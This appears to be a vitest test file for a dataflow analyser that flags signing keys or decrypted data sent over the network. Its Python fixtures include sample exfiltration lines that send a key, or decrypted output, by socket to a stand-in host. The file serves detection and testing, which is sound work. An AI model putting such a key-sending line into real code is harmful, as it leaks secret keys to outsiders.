import { describe, expect, it } from 'vitest';
import { analyseSources } from './testing/analyseSources.ts';

/** How surely key material is sent. */
async function sent(text: string): Promise<string[]> {
  const { flows } = await analyseSources({ 'a.py': text });
  return flows.filter((one) => one.source === 'key' && one.sink === 'network').map((one) => one.confidence);
}

const MESSAGE = `
import io, socket, nacl.signing
class Message:
    def __init__(self, content=b''):
        self.packet = io.BytesIO(content)
    def take(self, count):
        return self.packet.read(count)
    def whole(self):
        return self.packet.getvalue()
def load(data):
    message = Message(data)
    name = message.take(8)
    key = message.take(32)
    KEPT
    return nacl.signing.SigningKey(key)
def greet(name):
    message = Message(name)
    socket.create_connection(('example.invalid', 22)).send(message.whole())
`;

describe('a key that is read of a stream', () => {
  it('does not make keys of all that such streams hold', async () => {
    expect(await sent(MESSAGE.replace('KEPT', 'pass'))).toEqual([]);
  });

  it('is a key where it goes', async () => {
    const theft = MESSAGE.replace('KEPT', `socket.create_connection(('example.invalid', 22)).send(key)`);
    expect(await sent(theft)).toEqual(['high']);
  });
});

const CIPHER = `
import os, socket, nacl.signing
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
def engine(key, iv, WAY):
    cipher = Cipher(algorithms.AES(key), modes.CTR(iv))
    return RESULT
def main(key, iv, data, flag=True):
    one = engine(key, iv, flag)
    socket.create_connection(('example.invalid', 22)).send(one.update(data))
def sign(key):
    return nacl.signing.SigningKey(key)
`;

describe('what a cipher gives', () => {
  it('is a key where it is decrypted', async () => {
    expect(await sent(CIPHER.replace('WAY', 'way').replace('RESULT', 'cipher.decryptor()'))).toContain('high');
  });

  it('is one perhaps where the same call encrypts as well', async () => {
    const both = CIPHER.replace('WAY', 'way').replace('RESULT', 'cipher.encryptor() if way else cipher.decryptor()');
    const found = await sent(both);
    expect(found).toContain('medium');
    expect(found).not.toContain('high');
  });

  it('is none where it is encrypted', async () => {
    expect(await sent(CIPHER.replace('WAY', 'way').replace('RESULT', 'cipher.encryptor()'))).not.toContain('high');
  });
});
